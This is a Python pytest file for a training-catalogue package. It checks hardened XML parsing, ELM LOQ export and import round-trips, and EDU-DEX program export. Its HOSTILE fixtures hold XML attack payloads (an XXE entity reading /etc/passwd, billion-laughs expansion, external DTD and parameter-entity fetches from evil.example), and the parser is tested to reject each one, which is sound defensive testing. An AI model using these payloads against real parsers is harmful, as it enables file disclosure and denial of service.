"""Tests for catalogue.xml: hardened parsing, ELM LOQ export/import, EDU-DEX export."""

from __future__ import annotations

import datetime as dt
import random
import re
from pathlib import Path
from typing import TypeVar
from uuid import UUID

import msgspec
import pytest
from lxml import etree

from catalogue.xml import elm_vocab
from catalogue.xml.edudex import EDUDEX_PROGRAM, check_edudex_program, export_edudex_program
from catalogue.xml.elm import (
    ImportedCompetence,
    ImportedFramework,
    ImportedModule,
    ImportedProvider,
    ImportedRun,
    export_loq,
    import_loq,
    load_loq_schema,
)
from catalogue.xml.safe import XmlRejectedError, parse_xml, reject_entities
from schemas.catalogue import (
    CompetenceRef,
    Credits,
    DeliveryMode,
    FrameworkOut,
    Level,
    ModuleCompetence,
    ModuleCreate,
    ModuleDocument,
    ProviderRef,
    QualificationGroupOut,
    QualificationModule,
    QualificationOut,
    RunCreate,
    RunDocument,
    RunStatus,
)

S = TypeVar("S", bound=msgspec.Struct)

XSD_DIR = Path(elm_vocab.__file__).parent / "xsd" / "loq"
LOQ_NS = {"l": elm_vocab.LOQ}
P_NS = {"p": EDUDEX_PROGRAM}

# ---------------------------------------------------------------- generated module documents

PROVIDERS = [
    ProviderRef(
        id=UUID("00000000-0000-4000-8000-000000000001"),
        slug="windacademie-noord",
        name="Windacademie Noord B.V.",
        kvk="12345678",
        website="https://windacademie.example/",
    ),
    ProviderRef(
        id=UUID("00000000-0000-4000-8000-000000000002"),
        slug="warmte-en-co",
        name="Warmte & Co <Instituut>",
    ),
]
MODES: list[DeliveryMode] = ["classroom", "online", "blended", "on-the-job"]
STATUSES: list[RunStatus] = ["planned", "open", "full", "cancelled"]
FRAMEWORKS = {
    "esco": FrameworkOut(
        id=UUID("00000000-0000-4000-8000-0000000000e5"),
        slug="esco",
        name="ESCO",
        uri="http://data.europa.eu/esco/concept-scheme/skills",
        version="1.1.1",
    )
}


def _uuid(rng: random.Random) -> UUID:
    return UUID(int=rng.getrandbits(128), version=4)


def _competence(rng: random.Random, number: int) -> ModuleCompetence:
    esco = rng.random() < 0.6
    labels = {"nl": f"Warmtepomp installeren {number}", "en": f"Install heat pumps {number}"}
    if rng.random() < 0.3:
        labels = {"nl": f"Veilig werken aan laagspanning {number} & NEN 3140"}
    return ModuleCompetence(
        uri=f"http://data.europa.eu/esco/skill/{_uuid(rng)}"
        if esco
        else f"https://kwalificaties.example/werkproces/B1-K1-W{number}",
        label=next(iter(labels.values())),
        labels=labels,
        code=None if esco else f"B1-K1-W{number}",
        framework="esco" if esco else "sbb-werkprocessen",
        framework_version="1.1.1" if esco else "2024",
        level=rng.choice([None, "basic", "advanced"]),
    )


def _run(rng: random.Random, number: int) -> RunDocument:
    start = dt.date(2026, 1, 5) + dt.timedelta(days=rng.randrange(300))
    return RunDocument(
        id=_uuid(rng),
        start_date=start,
        end_date=start + dt.timedelta(days=rng.randrange(0, 30)),
        place=rng.choice(["Amsterdam", "Den Bosch", "Zwolle, Hanzeland"]),
        postcode=rng.choice(["1012 AB", "5211AA", "8011 CW"]),
        seats=rng.randrange(0, 40),
        price_cents=rng.choice([None, 0, 49_950, 123_450]),
        status=STATUSES[number % len(STATUSES)],
    )


def make_module(rng: random.Random, number: int) -> ModuleDocument:
    module_id = _uuid(rng)
    version = rng.randint(1, 5)
    credits = rng.choice([None, Credits(value=2.5), Credits(value=1.0, system="ECVET"),
                          Credits(value=0.1, system="SBU")])  # fmt: skip
    level = rng.choice([None, Level(scheme="mbo", value=rng.randint(1, 4)),
                        Level(scheme="nlqf", value=rng.randint(1, 8)),
                        Level(scheme="eqf", value=rng.randint(1, 8))])  # fmt: skip
    language = rng.choice(["nl", "en"])
    return ModuleDocument(
        id=module_id,
        version=version,
        url=f"https://registry.example/api/catalogue/modules/{module_id}/versions/{version}",
        status="published",
        published_at=dt.datetime(2025, 6, 1, tzinfo=dt.UTC),
        provider=PROVIDERS[number % 2],
        title=f"Module {number}: warmtepompen & <hybride> systemen",
        summary=rng.choice(["", 'Korte samenvatting met "quotes" en é.']),
        description=rng.choice(["", "Lange beschrijving.\nMet een tweede regel."]),
        language=language,
        level=level,
        study_load_hours=rng.randint(1, 400),
        credits=credits,
        duration_days=rng.choice([None, 1, 30]),
        delivery_mode=MODES[number % len(MODES)],
        prerequisites=rng.choice(["", "VCA basis"]),
        competences=[_competence(rng, n) for n in range(rng.randint(0, 3))],
        sectors=rng.sample(["installatietechniek", "energie", "bouw"], rng.randint(0, 2)),
        certificate=f"Certificaat module {number}",
        price_cents=rng.choice([None, 0, 99, 123_450]),
        runs=[_run(rng, n) for n in range(number % 5)],
    )


def make_modules(seed: int, count: int = 6) -> list[ModuleDocument]:
    rng = random.Random(seed)
    return [make_module(rng, number) for number in range(count)]


def _copy(source: msgspec.Struct, cls: type[S], **extra: object) -> S:
    """`cls` built from the same-named fields of `source` (plus `extra`)."""
    names = [name for name in cls.__struct_fields__ if name not in extra]
    return cls(**{name: getattr(source, name) for name in names}, **extra)


def expected_import(doc: ModuleDocument, frameworks: dict[str, FrameworkOut]) -> ImportedModule:
    """What import_loq must return for one exported module document: every ModuleCreate field."""
    refs = [CompetenceRef(uri=c.uri, level=c.level) for c in doc.competences]
    return ImportedModule(
        id=doc.id,
        version=doc.version,
        url=doc.url,
        provider=_copy(doc.provider, ImportedProvider),
        module=_copy(doc, ModuleCreate, competences=refs),
        competences=[
            ImportedCompetence(
                uri=c.uri,
                labels=c.labels,
                code=c.code,
                level=c.level,
                framework=ImportedFramework(
                    slug=c.framework,
                    name=frameworks[c.framework].name if c.framework in frameworks else None,
                    uri=frameworks[c.framework].uri if c.framework in frameworks else None,
                    version=c.framework_version,
                ),
            )
            for c in doc.competences
        ],
        runs=[ImportedRun(id=r.id, run=_copy(r, RunCreate)) for r in doc.runs],
    )


# ---------------------------------------------------------------- hardened parser

HOSTILE = {
    "xxe": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "billion-laughs": (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b"<lolz>&lol3;</lolz>"
    ),
    "external-dtd": b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "parameter-entity": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>'
    ),
    "lowercase-doctype": b"<!doctype x><x/>",
    "utf16-doctype": (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>'
    ).encode("utf-16"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_doctypes_are_rejected(name: str) -> None:
    with pytest.raises(XmlRejectedError) as caught:
        parse_xml(HOSTILE[name])
    assert caught.value.code == "xml-doctype-forbidden"


def test_oversized_document_is_rejected_before_parsing() -> None:
    data = b"<x>" + b"a" * 2000 + b"</x>"
    with pytest.raises(XmlRejectedError) as caught:
        parse_xml(data, max_bytes=1000)
    assert caught.value.code == "xml-too-large"


@pytest.mark.parametrize("data", [b"<x><y></x>", b"", b"<x>&undefined;</x>", b"not xml"])
def test_malformed_document_is_rejected_with_the_parser_message(data: bytes) -> None:
    with pytest.raises(XmlRejectedError) as caught:
        parse_xml(data)
    assert caught.value.code == "xml-malformed"
    assert "Traceback" not in caught.value.message
    assert caught.value.message


def test_remaining_entity_reference_is_rejected() -> None:
    root = etree.Element("x")
    root.append(etree.Entity("e"))
    with pytest.raises(XmlRejectedError) as caught:
        reject_entities(root)
    assert caught.value.code == "xml-entity-forbidden"


def test_normal_documents_parse_including_cdata_and_utf16() -> None:
    root = parse_xml(b'<?xml version="1.0"?><a><?pi x?><b><![CDATA[<i>&amp;</i>]]></b></a>')
    assert root.findtext("b") == "<i>&amp;</i>"
    assert len(root) == 1  # the processing instruction is dropped
    assert parse_xml("<a>é</a>".encode("utf-16")).text == "é"


# ---------------------------------------------------------------- ELM LOQ


def test_schema_files_reference_only_relative_paths() -> None:
    for path in XSD_DIR.rglob("*.xsd"):
        for location in re.findall(rb'schemaLocation="([^"]*)"', path.read_bytes()):
            assert b":" not in location, f"{path.name} imports {location!r}"


def test_ec_example_validates_with_the_loaded_schema() -> None:
    root = parse_xml((XSD_DIR / "loq.xml").read_bytes())
    assert load_loq_schema().validate(root), load_loq_schema().error_log


@pytest.mark.parametrize("seed", range(8))
def test_export_validates_and_round_trips(seed: int) -> None:
    docs = make_modules(seed)
    frameworks = FRAMEWORKS if seed % 2 else {}
    root = parse_xml(export_loq(docs, frameworks=frameworks))
    assert load_loq_schema().validate(root), load_loq_schema().error_log
    imported = import_loq(root)
    assert imported == [expected_import(doc, frameworks) for doc in docs]


def test_two_versions_of_one_module_export_together() -> None:
    first = next(doc for doc in make_modules(4) if len(doc.runs) > 1)
    second = msgspec.structs.replace(
        first, version=first.version + 1, url=first.url.replace("/versions/", "/versions/1")
    )
    root = parse_xml(export_loq([first, second]))
    assert load_loq_schema().validate(root), load_loq_schema().error_log
    assert import_loq(root) == [expected_import(doc, {}) for doc in (first, second)]


def test_round_trip_covers_the_required_variety() -> None:
    docs = [doc for seed in range(8) for doc in make_modules(seed)]
    assert {doc.delivery_mode for doc in docs} == set(MODES)
    assert {run.status for doc in docs for run in doc.runs} == set(STATUSES)
    assert {doc.level.scheme for doc in docs if doc.level} == {"mbo", "nlqf", "eqf"}
    assert any(doc.credits is None for doc in docs)
    assert any(len(c.labels) == 2 for doc in docs for c in doc.competences)


def test_export_uses_elm_vocabularies() -> None:
    doc = make_modules(3)[1]
    root = parse_xml(export_loq([doc]))
    lo = root.find("l:learningOpportunityReferences/l:learningOpportunity", LOQ_NS)
    assert lo is not None
    assert lo.get("id") == doc.url
    assert lo.find("l:mode", LOQ_NS).get("uri") == elm_vocab.MODE_URIS["online"]  # type: ignore[union-attr]
    assert lo.find("l:title", LOQ_NS).get("language") == doc.language  # type: ignore[union-attr]
    org = root.find("l:agentReferences/l:organisation", LOQ_NS)
    assert org is not None
    assert org.findtext("l:legalName", namespaces=LOQ_NS) == doc.provider.name


def test_eqf_level_uses_the_eu_uri() -> None:
    doc = make_modules(0)[0]
    doc.level = Level(scheme="eqf", value=4)
    root = parse_xml(export_loq([doc]))
    level = root.find(".//l:educationLevel", LOQ_NS)
    assert level is not None
    assert level.get("uri") == "http://data.europa.eu/snb/eqf/4"


def test_qualifications_export_as_specifications_with_parts() -> None:
    docs = make_modules(1, count=3)
    qualification = QualificationOut(
        id=UUID("00000000-0000-4000-8000-0000000000a1"), code="WP-INST", title="Warmtepompmonteur",
        description="", level=Level(scheme="mbo", value=3), sector="installatietechniek",
        url="https://registry.example/api/catalogue/qualifications/wp-inst",
        groups=[QualificationGroupOut(title="Verplicht", required=True, min_count=2, modules=[
            QualificationModule(id=d.id, title=d.title, provider=d.provider.slug,
                                status=d.status, url=d.url) for d in docs[:2]])],
    )  # fmt: skip
    root = parse_xml(export_loq(docs, [qualification]))
    assert load_loq_schema().validate(root), load_loq_schema().error_log
    spec = root.find(f".//l:learningAchievementSpecification[@id='{qualification.url}']", LOQ_NS)
    assert spec is not None
    assert len(spec.findall("l:hasPart", LOQ_NS)) == 2
    assert len(import_loq(root)) == 3  # qualifications are not modules


def test_import_rejects_a_document_that_fails_the_schema() -> None:
    root = parse_xml(export_loq(make_modules(2, count=1)))
    lo = root.find("l:learningOpportunityReferences/l:learningOpportunity", LOQ_NS)
    assert lo is not None
    lo.remove(lo.find("l:defaultLanguage", LOQ_NS))  # type: ignore[arg-type]
    root = parse_xml(etree.tostring(root))
    with pytest.raises(XmlRejectedError) as caught:
        import_loq(root)
    assert caught.value.code == "elm-invalid"
    assert caught.value.message.startswith("line ")


def test_import_of_a_foreign_document_reports_what_is_missing() -> None:
    root = parse_xml((XSD_DIR / "loq.xml").read_bytes())
    with pytest.raises(XmlRejectedError) as caught:
        import_loq(root)
    assert caught.value.code == "elm-unsupported"
    assert "http://LOP-" in caught.value.message


# ---------------------------------------------------------------- EDU-DEX

GENERATED_AT = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)


def _program(doc: ModuleDocument) -> etree._Element:
    return parse_xml(
        export_edudex_program(doc, org_unit_id="windacademie", generated_at=GENERATED_AT)
    )


@pytest.mark.parametrize("seed", range(4))
def test_edudex_programs_pass_the_structural_check(seed: int) -> None:
    for doc in make_modules(seed):
        assert check_edudex_program(_program(doc)) == []


def test_edudex_exact_values() -> None:
    doc = make_modules(5)[4]  # four runs: planned, open, full, cancelled
    doc.duration_days, doc.language = 3, "en"
    root = _program(doc)
    assert root.tag == f"{{{EDUDEX_PROGRAM}}}program"
    name = root.find("p:programDescriptions/p:programName", P_NS)
    assert name is not None
    assert name.get("{http://www.w3.org/XML/1998/namespace}lang") == "en"
    duration = root.find("p:programClassification/p:programDuration", P_NS)
    assert duration is not None
    assert (duration.text, duration.get("unit")) == ("3", "day")
    load = root.find("p:programCurriculum/p:studyLoad", P_NS)
    assert load is not None
    assert load.get("period") == "program"
    statuses = [
        run.findtext("p:status", namespaces=P_NS) for run in root.iterfind(".//p:programRun", P_NS)
    ]
    assert statuses == [
        "application opened",
        "application opened",
        "application closed",
        "canceled",
    ]
    assert root.findtext("p:lastEdited", namespaces=P_NS) == "2026-01-02T03:04:05+00:00"
    assert root.findtext("p:programClassification/p:programId", namespaces=P_NS) == str(doc.id)


def test_edudex_cost_amount_and_order() -> None:
    doc = make_modules(0)[0]
    doc.runs, doc.price_cents = [], 123_450
    cost = _program(doc).find("p:programSchedule/p:genericProgramRun/p:cost", P_NS)
    assert cost is not None
    assert [etree.QName(c).localname for c in cost] == [
        "amount", "amountIsFinal", "costType", "currency", "id", "isRequiredCost"]  # fmt: skip
    assert cost.findtext("p:amount", namespaces=P_NS) == "1234.50"
    assert cost.findtext("p:costType", namespaces=P_NS) == "tuition fee"
    assert cost.findtext("p:currency", namespaces=P_NS) == "EUR"


def test_edudex_check_reports_problems() -> None:
    root = _program(make_modules(0)[3])
    admission = root.find("p:programAdmission", P_NS)
    assert admission is not None
    admission.remove(admission.find("p:paymentDue", P_NS))  # type: ignore[arg-type]
    root.find("p:programClassification/p:programId", P_NS).text = "bad<id>"  # type: ignore[union-attr]
    root.find("p:programClassification/p:programDuration", P_NS).set("unit", "fortnight")  # type: ignore[union-attr]
    problems = check_edudex_program(root)
    assert "programAdmission: missing paymentDue" in problems
    assert any(p.startswith("programClassification/programId") for p in problems)
    assert any("@unit 'fortnight'" in p for p in problems)


def test_edudex_refuses_a_bad_org_unit_id() -> None:
    with pytest.raises(ValueError, match="orgUnitId"):
        export_edudex_program(make_modules(0)[0], org_unit_id="Bad Id", generated_at=GENERATED_AT)
